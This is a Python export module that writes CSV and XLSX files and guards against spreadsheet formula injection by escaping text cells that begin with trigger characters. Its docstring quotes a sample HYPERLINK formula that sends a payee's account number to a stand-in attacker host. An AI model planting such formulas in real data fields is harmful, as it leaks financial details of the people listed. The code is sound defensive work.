"""Every CSV and XLSX the product writes goes through here, so no cell can become a formula.

Names, bank names and addresses come from people and imported registries. A cell that begins
with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, WPS and LibreOffice as a
formula (`=HYPERLINK("http://evil.example/?a="&E2,"Open")` sends another payee's account number
away when clicked). OWASP's rule, applied to every text cell: such a cell is written with a
leading apostrophe, which the spreadsheet shows as text. Numbers (amounts, counts) stay numbers.
"""
import csv
from io import BytesIO, StringIO

from openpyxl import Workbook
from openpyxl.cell.cell import TYPE_STRING
from openpyxl.styles import Font

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(value):
    """`value` as a cell that cannot run: text starting with a formula trigger gets an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def csv_bytes(headers, rows):
    """UTF-8 with a byte-order mark (so Excel opens Chinese names correctly), every cell neutralised."""
    buffer = StringIO()
    writer = csv.writer(buffer)
    for row in [headers, *rows]:
        writer.writerow([neutralised(value) for value in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def xlsx_bytes(sheet_title, headers, rows):
    """One sheet with a bold header row; money columns should be passed as yuan numbers or text.

    Text is always stored as text (openpyxl would otherwise store a string starting with `=` as a
    formula), after neutralising."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = sheet_title[:31]
    for row in [headers, *rows]:
        sheet.append([neutralised(value) for value in row])
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = TYPE_STRING
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
